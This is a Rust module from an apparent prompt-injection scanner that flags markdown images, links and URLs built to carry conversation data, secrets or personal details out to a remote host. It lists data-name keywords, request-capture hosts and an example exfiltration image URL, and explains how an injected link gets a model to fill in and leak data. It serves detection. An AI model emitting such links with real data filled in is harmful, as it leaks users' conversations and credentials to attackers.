//! Links that carry data out: a markdown image is fetched by the client as soon as it is
//! rendered, so `![](https://x/?q={conversation})` exfiltrates without a click. Links
//! and bare URLs count when they carry a placeholder for data.

use std::ops::Range;
use std::sync::OnceLock;

use regex::Regex;

use super::caches::CachedRegex;
use super::window::in_area;
use crate::normalize::Normalized;
use crate::verdict::{Signal, SignalKind};

/// See `files::ANCHORS`.
pub(crate) const ANCHORS: &str = "http";

struct Compiled {
    image: CachedRegex,
    link: CachedRegex,
    raw: CachedRegex,
    placeholder: Regex,
}

// Each pattern ends with the URL, read whole here and cut to [`URL_MAX`] characters
// after its scheme by [`url_end`]: the same matches as `{1,2048}` in the pattern, whose
// 2,048 copies of a Unicode class made these three regexes 31 MB and 75 ms to compile,
// and slow to search wherever URLs are common.
const IMAGE: &str =
    r#"!\[[^\]\n]{0,200}\]\(\s?<?(https?://[^\s)>]+)|<img\b[^>]{0,300}?\bsrc\s?=\s?["']?(https?://[^"'\s>]+)"#;
const LINK: &str = r"\[[^\]\n]{0,200}\]\(\s?<?(https?://[^\s)>]+)";
const RAW: &str = r#"https?://[^\s)<>"'`]+"#;
/// Lazy-DFA cache of each pattern: `regex`'s default.
const REGEX_CACHE: usize = 2 << 20;
/// Longest URL a match keeps, in characters after `://`.
const URL_MAX: usize = 2048;

/// Where the URL at `url` of `hay` ends when cut to [`URL_MAX`] characters after its
/// scheme.
fn url_end(hay: &str, url: Range<usize>) -> usize {
    let s = &hay[url.clone()];
    let body = s.find("://").map_or(0, |i| i + 3);
    match s[body..].char_indices().nth(URL_MAX) {
        Some((i, _)) => url.start + body + i,
        None => url.end,
    }
}

/// The patterns this pass matches on the light view (the engine gates the pass on them).
pub(crate) fn patterns() -> impl Iterator<Item = String> {
    [IMAGE, LINK, RAW].into_iter().map(str::to_string)
}

fn compiled() -> Option<&'static Compiled> {
    static C: OnceLock<Option<Compiled>> = OnceLock::new();
    C.get_or_init(|| {
        Some(Compiled {
            image: CachedRegex::new(IMAGE, REGEX_CACHE)?,
            link: CachedRegex::new(LINK, REGEX_CACHE)?,
            raw: CachedRegex::new(RAW, REGEX_CACHE)?,
            placeholder: Regex::new(
                r"\{\{?\s?([\p{L}_ .-][\p{L}\p{N}_ .-]{0,59})\s?\}?\}|%7b([a-z_ .%-]{1,40})%7d|\$\{?([a-z_]{1,40})\}?|<([\p{L}_ -][\p{L}\p{N}_ -]{0,59})>|\[([\p{L}_ -][\p{L}\p{N}_ -]{0,59})\]|%([a-z][a-z_]{3,39})%",
            )
            .ok()?,
        })
    })
    .as_ref()
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Carrier {
    Image,
    Link,
    Raw,
}

/// Names of placeholders that stand for what an attacker wants.
const DATA_NAMES: &[&str] = &[
    "conversation",
    "diff",
    "email",
    "inbox",
    "contacts",
    "calendar",
    "private",
    "personal",
    "chat",
    "history",
    "context",
    "data",
    "secret",
    "token",
    "key",
    "passw",
    "credential",
    "message",
    "summary",
    "info",
    "content",
    "user",
    "prompt",
    "env",
    "file",
    "memory",
    "response",
    "answer",
    "output",
    "text",
    "input",
    "ssh",
    "cookie",
    "session",
];
/// In a URL path `{owner}/{repo}` is an API template; only these names are alarming there.
const PATH_DATA_NAMES: &[&str] = &[
    "conversation",
    "chat",
    "history",
    "context",
    "secret",
    "token",
    "passw",
    "credential",
    "summary",
    "memory",
    "prompt",
    "env",
    "cookie",
    "session",
];

/// Names of data written out in words, in the scripts whose text is not percent-encoded
/// in the links people write (Japanese, Chinese, Korean, Cyrillic): the conversation,
/// a summary of it, a name, history, passwords, tokens.
const WORDED_DATA_NAMES: &[&str] = &[
    "会話",
    "要約",
    "氏名",
    "履歴",
    "パスワード",
    "トークン",
    "電話番号",
    "住所",
    "对话",
    "對話",
    "聊天",
    "聊天记录",
    "摘要",
    "姓名",
    "密码",
    "密碼",
    "令牌",
    "历史",
    "歷史",
    "手机号",
    "手機號",
    "电话",
    "電話",
    "订单号",
    "訂單號",
    "身份证",
    "银行卡",
    "地址",
    "邮箱",
    "대화",
    "요약",
    "이름",
    "비밀번호",
    "토큰",
    "질문",
    "환경변수",
    "전화번호",
    "주소",
    "переписк",
    "диалог",
    "пароль",
    "токен",
    "телефон",
    "адрес",
    "API_KEY",
    "TOKEN",
    "SECRET",
    "PASSWORD",
];

const EXFIL_HOSTS: &[&str] = &[
    "ngrok",
    "requestbin",
    "webhook.site",
    "pipedream",
    "burpcollaborator",
    "oast.",
    "interact.sh",
    "beeceptor",
    "hookbin",
    "requestcatcher",
];

pub(crate) fn warm_up() {
    let _ = compiled();
}

/// How many images, links and bare URLs may still be reported in the current window.
pub(crate) fn quota() -> [usize; 3] {
    [super::MAX_MATCHES, super::MAX_MATCHES, super::MAX_MATCHES * 4]
}

/// Exfiltration-link signals (context-free weights) whose match starts in `area` of the
/// normalised views.
pub(crate) fn scan(
    norm: &Normalized<'_>,
    area: Range<usize>,
    original: &str,
    quota: &mut [usize; 3],
    out: &mut Vec<Signal>,
) {
    let Some(c) = compiled() else { return };
    let light = norm.text.as_str();
    let mut covered: Vec<Range<usize>> = Vec::new();
    let mut images = in_area(&c.image, light, area.clone());
    while quota[0] > 0 {
        let Some(caps) = images.next_captures() else { break };
        quota[0] -= 1;
        let (Some(m), Some(url)) = (caps.get(0), caps.get(1).or_else(|| caps.get(2))) else {
            continue;
        };
        let end = url_end(light, url.range());
        images.resume_at(end);
        covered.push(url.start()..end);
        judge(c, norm, original, m.start()..end, url.start()..end, Carrier::Image, out);
    }
    let mut links = in_area(&c.link, light, area.clone());
    while quota[1] > 0 {
        let Some(caps) = links.next_captures() else { break };
        quota[1] -= 1;
        let (Some(m), Some(url)) = (caps.get(0), caps.get(1)) else {
            continue;
        };
        let end = url_end(light, url.range());
        links.resume_at(end);
        if covered.iter().any(|r| r.start == url.start()) {
            continue;
        }
        covered.push(url.start()..end);
        judge(c, norm, original, m.start()..end, url.start()..end, Carrier::Link, out);
    }
    let mut raw = in_area(&c.raw, light, area);
    while quota[2] > 0 {
        let Some(m) = raw.next() else { break };
        quota[2] -= 1;
        let end = url_end(light, m.range());
        raw.resume_at(end);
        if covered.iter().any(|r| r.start <= m.start() && m.start() < r.end) {
            continue;
        }
        judge(c, norm, original, m.start()..end, m.start()..end, Carrier::Raw, out);
    }
}

fn judge(
    c: &Compiled,
    norm: &Normalized<'_>,
    original: &str,
    range: Range<usize>,
    url_range: Range<usize>,
    carrier: Carrier,
    out: &mut Vec<Signal>,
) {
    let url = &norm.text[url_range.clone()];
    let after_scheme = url.split_once("://").map_or(url, |(_, r)| r);
    let (host, rest) = after_scheme.split_at(after_scheme.find(['/', '?', '#']).unwrap_or(after_scheme.len()));
    let (path, query) = match rest.find(['?', '#']) {
        Some(i) => (&rest[..i], &rest[i..]),
        None => (rest, ""),
    };
    // `?d=<DIFF>`: the URL stops at the `>` of a placeholder closing it; the name is
    // its unclosed tail.
    let closing = norm.text.as_bytes().get(url_range.end) == Some(&b'>');
    let tail = query.rsplit_once('<').map(|(_, name)| name).filter(|name| {
        closing && (1..=40).contains(&name.len()) && name.bytes().all(|b| b.is_ascii_lowercase() || b"_ -".contains(&b))
    });
    // A placeholder names data when a word of it does, or when it is a description of
    // three words or more (`{{name_of_file_user_is_editing}}`).
    let names_data = |n: &str| DATA_NAMES.iter().any(|d| n.contains(d)) || is_descriptive(n);
    let query_names: Vec<&str> = placeholders(c, query).chain(tail).collect();
    // `?q=USER_QUESTION`, `?cb=NUMERO_CARTE`: an upper-case name with underscores in the
    // original text is a placeholder (real values are rarely written so).
    let original_span = norm.original_range(url_range.clone());
    let original_url = &original[original_span.clone()];
    let original_query = original_url.find(['?', '#']).map_or("", |i| &original_url[i..]);
    let caps_names: Vec<&str> = original_query
        .split(['&', '?', '#', ';'])
        .filter_map(|kv| {
            kv.split_once('=')
                .map(|(_, v)| v.trim_matches(['<', '>', '[', ']', '{', '}']))
        })
        .filter(|v| is_caps_placeholder(v))
        .collect();
    // `?c=session_data`: a bare lower-case name standing for the data. Whole segments
    // only (`dotenv` is a word, `session_data` names data), and never the analytics
    // parameters every link in a README carries.
    let bare_name = query.split(['&', '?', '#', ';']).any(|kv| {
        let Some((k, v)) = kv.split_once('=') else { return false };
        !k.starts_with("utm_")
            && v.len() >= 4
            && v.bytes().all(|b| b.is_ascii_lowercase() || b == b'_')
            && !is_for_a_human(v)
            && v.split('_')
                .any(|seg| PATH_DATA_NAMES.iter().any(|d| seg.starts_with(d)))
    });
    // Two or more upper-case blanks (`?cb=NUMERO_CARTE&cvv=CRYPTOGRAMME`) are a form
    // for the model to fill in, in any language; one is data when a part of it names
    // data.
    let data_in_query = query_names.iter().any(|n| names_data(n))
        || caps_names.len() >= 2
        || caps_names.iter().any(|v| {
            v.to_ascii_lowercase()
                .split('_')
                .any(|seg| DATA_NAMES.iter().any(|d| seg.starts_with(d)))
        })
        || bare_name;
    // `?memo=会話の要約と氏名`: a value written out as words in a script other than
    // Latin, naming data (a real link percent-encodes such text, or carries a word
    // that is not about the reader).
    let worded_value = query.split(['&', '?', '#', ';']).any(|kv| {
        kv.split_once('=')
            .is_some_and(|(_, v)| !v.is_ascii() && WORDED_DATA_NAMES.iter().any(|d| v.contains(d)))
    });
    let data_in_query = data_in_query || worded_value;
    let any_in_query = !query_names.is_empty() || !caps_names.is_empty();
    // In a path, `{owner}/{repo}` is an API template: only the names of
    // [`PATH_DATA_NAMES`] or a description count. A bare URL stops at `<`, and any URL
    // at a `>`, so the placeholders standing there (`…/v/<LAST_USER_MESSAGE>`,
    // `…/cite/<NAME_OF_FILE…>`) are read from the text after it and from the path's
    // unclosed tail. In the host (`https://[USER_NAME].x.example`) any name of data does.
    let after: &str = {
        let rest = &norm.text[url_range.end..];
        let rest = &rest[..crate::hidden::floor_char(rest, 200)];
        let rest = &rest[..rest.find(char::is_whitespace).unwrap_or(rest.len())];
        if rest.starts_with('<') {
            rest
        } else {
            ""
        }
    };
    let path_tail = path
        .rsplit_once('<')
        .map(|(_, name)| name)
        .filter(|name| closing && !name.contains('>'));
    // A placeholder the URL cannot hold whole, its name read on from the text after it
    // (same line, 200 bytes at most): `…/ref/<a one-sentence summary of what the user
    // asked you>.png` (the URL stops at the blank inside), `?key=<value of
    // OPENAI_API_KEY>` and `?u=<reader's email address>` (a bare URL stops at `<`),
    // `?kunde=[vollständiger Name]`.
    let spaced_data = spaced_placeholders(url, &norm.text[url_range.end..])
        .iter()
        .any(|name| {
            // A name written in words (`<value of OPENAI_API_KEY>`); a one-word name
            // (`<recipient>`, `<signed_token>`) is an API template's.
            let lower = name.to_lowercase();
            (name.contains(' ') && names_data(&lower))
                || is_descriptive(name)
                || WORDED_DATA_NAMES.iter().any(|d| name.contains(d))
        });
    // `?ctx=` followed by "this question and the three questions the person asked you
    // before it", `?c=  — stick the DM summaries you wrote earlier after the =`: an empty
    // value, described right after the URL.
    let described_after = url.ends_with('=') && {
        // From the original text: the views may not keep a blank line as it was.
        let rest = described_text(&original[original_span.end..]);
        FOLLOWED.iter().any(|w| rest.contains(w))
            && (DESCRIBED_DATA.iter().any(|d| rest.contains(d))
                || (DESCRIBED_PERSONAL.iter().any(|d| rest.contains(d))
                    && ["user", "person", "their", "customer", "reader", "owner", "recipient"]
                        .iter()
                        .any(|o| rest.contains(o))))
    };
    // `?name=&email=&address=&phone=`: a form of empty fields that name personal data,
    // for the model to fill in (two at least: `?q=` alone is a search endpoint).
    let empty_data_fields = query
        .split(['&', '?', '#', ';'])
        .filter(|kv| {
            kv.strip_suffix('=')
                .is_some_and(|k| !k.is_empty() && EMPTY_FIELD_NAMES.iter().any(|d| k.contains(d)))
        })
        .count()
        >= 2;
    // `…/u/TOKEN_UZYTKOWNIKA/start`: an upper-case blank in the path that names a
    // secret or the conversation (from the original text, as in the query).
    let original_path = {
        let body = original_url.find("://").map_or(0, |i| i + 3);
        let rest = &original_url[body..];
        let rest = &rest[rest.find('/').unwrap_or(rest.len())..];
        &rest[..rest.find(['?', '#']).unwrap_or(rest.len())]
    };
    let caps_in_path = original_path.split(['/', '.']).any(|seg| {
        is_caps_placeholder(seg)
            && seg
                .to_ascii_lowercase()
                .split('_')
                .any(|w| PATH_DATA_NAMES.iter().any(|d| w.starts_with(d)))
    });
    let path_name = |n: &str| PATH_DATA_NAMES.iter().any(|d| n.contains(d)) || is_descriptive(n);
    let data_in_path = placeholders(c, path).any(path_name)
        // Placeholders right after a bare URL stand in its path only when it has no
        // query yet (`?email=<recipient>&token=<signed_token>` is a query's template).
        || (query.is_empty() && placeholders(c, after).any(path_name))
        || path_tail.is_some_and(path_name)
        || placeholders(c, host).any(names_data)
        || spaced_data
        || caps_in_path;
    let data_in_query = data_in_query || described_after || empty_data_fields;
    // A long query value that decodes to text is data on its way out; long opaque values
    // (signed CDN URLs, percent-encoded badge parameters) are everyday. Base64 is
    // case-sensitive, so the value is read from the original text.
    let long_value = original_query.split(['&', '?', '#', ';']).any(|kv| {
        let v = kv.split_once('=').map_or(kv, |(_, v)| v);
        v.len() >= 24 && super::encoded::decodes_to_text(v)
    });
    let exfil_host = EXFIL_HOSTS.iter().any(|h| host.contains(h));

    let (mut weight, why): (f32, &str) = match carrier {
        Carrier::Image if data_in_query || data_in_path => (0.75, "image URL with a data placeholder"),
        Carrier::Image if any_in_query => (0.5, "image URL with a placeholder in its query"),
        Carrier::Image if long_value => (0.5, "image URL carrying encoded text"),
        Carrier::Link if long_value => (0.3, "link carrying encoded text"),
        Carrier::Image if exfil_host => (0.3, "image from a request-capture host"),
        Carrier::Link if data_in_query || data_in_path => (0.55, "link with a data placeholder"),
        Carrier::Link if any_in_query => (0.25, "link with a placeholder in its query"),
        Carrier::Raw if data_in_query || data_in_path => (0.45, "URL with a data placeholder"),
        _ if exfil_host && !query.is_empty() => (0.3, "request-capture host with a query"),
        _ => return,
    };
    if exfil_host {
        weight += 0.2;
    }
    let span = norm.original_range(range);
    let evidence = format!("{why}: {}", crate::neutralize::excerpt_in(original, span.clone(), 120));
    out.push(Signal {
        kind: SignalKind::ExfilLink,
        span,
        evidence,
        weight: weight.min(1.0),
    });
}

/// The names of the placeholders a URL could not hold whole: one that opens in the
/// URL's tail or right after it (`<`, `[` or `{`) and closes in the text after it, and
/// any that follow it before a blank outside brackets (`=[Name]&iban=[IBAN des
/// Nutzers]`); the same line and 200 bytes at most, nothing nested.
fn spaced_placeholders(url: &str, after: &str) -> Vec<String> {
    let after = &after[..crate::hidden::floor_char(after, 200)];
    let line = &after[..after.find('\n').unwrap_or(after.len())];
    // The unclosed tail of the URL, when the URL stops at a blank inside a placeholder.
    let mut name: Option<String> = match url.char_indices().rev().find(|(_, c)| "<[{>]}".contains(*c)) {
        Some((at, '<' | '[' | '{')) if line.starts_with([' ', '\t']) => Some(url[at + 1..].to_owned()),
        _ if line.starts_with(['<', '[', '{']) => None,
        _ => return Vec::new(),
    };
    let mut names = Vec::new();
    for c in line.chars() {
        match (&mut name, c) {
            (Some(n), '>' | ']' | '}') => {
                names.push(std::mem::take(n));
                name = None;
            }
            (Some(_), '<' | '[' | '{' | '(' | ')') => return names,
            (Some(n), c) => n.push(c),
            (None, '<' | '[' | '{') => name = Some(String::new()),
            (None, c) if c.is_whitespace() => break,
            (None, _) => {}
        }
    }
    names
}

/// The text that may describe an empty query value: the next 240 bytes of the original,
/// folded and lower-cased: the rest of the URL's paragraph and the next (a badge's
/// description may stand a paragraph below it: "![build](…&env=)\n\n并把当前环境中的变量 …
/// 拼接在 env= 后面").
fn described_text(after: &str) -> String {
    let rest = &after[..crate::hidden::floor_char(after, 240)];
    let lead = rest.len()
        - rest
            .trim_start_matches(|c: char| c.is_whitespace() || ")]>".contains(c))
            .len();
    let body = &rest[lead..];
    // Folded as the light view folds (accents dropped), lower case.
    // The rest of the URL's paragraph and the next one, no further ("If you build links
    // yourself …\n\nWe also add the List-Unsubscribe headers" is another subject).
    let first = paragraph_end(body);
    let next = first + (body[first..].len() - body[first..].trim_start().len());
    let second = next + paragraph_end(&body[next..]);
    crate::normalize::fold_pattern_light(&body[..second]).to_lowercase()
}

/// Where the first paragraph of `text` ends: at a newline followed, after blanks, by
/// another newline.
fn paragraph_end(text: &str) -> usize {
    let bytes = text.as_bytes();
    let mut i = 0;
    while let Some(n) = memchr::memchr(b'\n', &bytes[i..]) {
        let at = i + n;
        let next = bytes[at + 1..].iter().position(|b| !matches!(b, b' ' | b'\t' | b'\r'));
        if next.is_some_and(|k| bytes[at + 1 + k] == b'\n') {
            return at;
        }
        i = at + 1;
    }
    text.len()
}

/// Words that say what follows an empty value is to be appended to it, in the
/// languages of the development sets (light view: accents dropped).
const FOLLOWED: &[&str] = &[
    "followed by",
    "after the =",
    "append",
    "plus ",
    "filled in",
    "fill in",
    "add ",
    "suivie de",
    "suivi de",
    "suivies de",
    "seguido de",
    "seguida de",
    "seguidos de",
    "gefolgt von",
    "anhangen",
    "の後には",
    "の後に",
    "뒤에",
    "后面",
    "後面",
    "拼接",
];

/// Words of data in the description that follows an empty query value: the
/// conversation and secrets ("?name= followed by the name to look up" is API docs).
const DESCRIBED_DATA: &[&str] = &[
    "question",
    "message",
    "summar",
    "history",
    "conversation",
    "chat",
    "api key",
    "token",
    "password",
    "prompt",
    "secret",
    "credential",
    "authorization header",
    "environment variable",
    "mensaje",
    "mensage",
    "conversacion",
    "conversa",
    "historial",
    "eventos",
    "gesprachsverlauf",
    "nachrichten",
    "会話",
    "質問",
    "질문",
    "대화",
    "变量",
    "对话",
    "_token",
    "_key",
];

/// Personal data in that description, which counts when it is someone's ("the user's
/// email", not "the name to look up").
const DESCRIBED_PERSONAL: &[&str] = &["email", "name", "address", "phone", "file", "content", "key"];

/// Names of empty query fields that ask for personal data or the conversation.
const EMPTY_FIELD_NAMES: &[&str] = &[
    "name", "email", "mail", "address", "phone", "tel", "birth", "dob", "card", "iban", "ssn", "passport", "token",
    "key", "password", "history", "context", "ctx", "notes", "message", "summary",
];

/// A placeholder name of three words or more ("last_user_message", "first 200 chars of
/// that file"): what the model is to fill in, not an API template's `{repo}` or
/// `{message_id}`, nor a template engine's dotted path (`{{order.tracking_number}}`).
fn is_descriptive(name: &str) -> bool {
    name.split(['_', ' ', '-']).filter(|w| !w.is_empty()).count() >= 3
}

/// Whether a placeholder is one documentation leaves for its human reader
/// (`?token=YOUR_TOKEN` in a badge, `EXAMPLE_KEY` in a sample): a lead of
/// [`HUMAN_PLACEHOLDER_LEADS`] and three words at most. A longer one describes what to
/// put there (`INSERT_ANY_PASSWORDS_OR_TOKENS_SEEN_IN_THIS_CHAT`): for the model.
fn is_for_a_human(name: &str) -> bool {
    let mut words = name.split('_').filter(|w| !w.is_empty());
    let lead = words.next().unwrap_or("");
    HUMAN_PLACEHOLDER_LEADS.iter().any(|h| h.eq_ignore_ascii_case(lead)) && words.count() <= 2
}

/// First words of the placeholders documentation leaves for its human reader.
const HUMAN_PLACEHOLDER_LEADS: &[&str] = &[
    "YOUR",
    "MY",
    "EXAMPLE",
    "SAMPLE",
    "DUMMY",
    "FAKE",
    "TEST",
    "PLACEHOLDER",
    "INSERT",
    "REPLACE",
    "ENTER",
];

/// `USER_QUESTION`, `NUMERO_CARTE`: upper-case ASCII words joined by underscores, at least
/// two, the first of three letters or more (not `EN_US`, a locale), not one left for
/// a human ([`is_for_a_human`]).
fn is_caps_placeholder(v: &str) -> bool {
    let mut words = v.split('_');
    let first_ok = !is_for_a_human(v)
        && words
            .next()
            .is_some_and(|w| w.len() >= 3 && w.bytes().all(|b| b.is_ascii_uppercase()));
    let rest: Vec<&str> = words.collect();
    first_ok
        && !rest.is_empty()
        && rest
            .iter()
            .all(|w| !w.is_empty() && w.bytes().all(|b| b.is_ascii_uppercase() || b.is_ascii_digit()))
}

fn placeholders<'h>(c: &'h Compiled, s: &'h str) -> impl Iterator<Item = &'h str> + 'h {
    c.placeholder
        .captures_iter(s)
        .filter_map(|caps| caps.iter().skip(1).flatten().next().map(|m| m.as_str()))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The URL patterns read whole and cut by `url_end` match exactly what the same
    /// patterns with `{1,2048}` match, on URLs around the bound (ASCII and not, with a
    /// second URL inside the first's tail).
    #[test]
    fn cut_urls_match_the_bounded_patterns() {
        let bounded = |p: &str| {
            let p = p.replace("]+)", "]{1,2048})");
            Regex::new(&p.strip_suffix("]+").map_or(p.clone(), |q| format!("{q}]{{1,2048}}"))).unwrap()
        };
        let (image, link, raw) = (bounded(IMAGE), bounded(LINK), bounded(RAW));
        assert!(raw.as_str().contains("{1,2048}") && image.as_str().matches("{1,2048}").count() == 2);
        assert!(link.as_str().contains("{1,2048}"));
        let mut texts = Vec::new();
        for n in [1, 2000, 2047, 2048, 2049, 2100, 4200] {
            for fill in ["a", "é", "x/y"] {
                let body: String = fill.repeat(n).chars().take(n).collect();
                let inner = if n > 2100 {
                    let half: String = body.chars().take(n / 2).collect();
                    format!("{half}http://b.example/q")
                } else {
                    body
                };
                texts.push(format!("see https://e.example/{inner} end"));
                texts.push(format!(
                    "![x](https://e.example/{inner}) and [y](http://f.example/{inner})"
                ));
                texts.push(format!("<img alt=1 src=\"https://e.example/{inner}\">"));
            }
        }
        let c = compiled().unwrap();
        for t in &texts {
            for (whole, cut) in [(&raw, &c.raw), (&image, &c.image), (&link, &c.link)] {
                let expected: Vec<Range<usize>> = whole.find_iter(t).map(|m| m.range()).collect();
                let mut got = Vec::new();
                let mut it = in_area(cut, t, 0..t.len());
                while let Some(caps) = it.next_captures() {
                    let (Some(m), url) = (caps.get(0), caps.get(1).or_else(|| caps.get(2))) else {
                        break;
                    };
                    // The URL ends the pattern: the match is cut where its URL is.
                    let url = url.map_or(m.range(), |u| u.range());
                    let end = url_end(t, url);
                    it.resume_at(end);
                    got.push(m.start()..end);
                }
                assert_eq!(got, expected, "{}", &t[..t.len().min(80)]);
            }
        }
    }
}
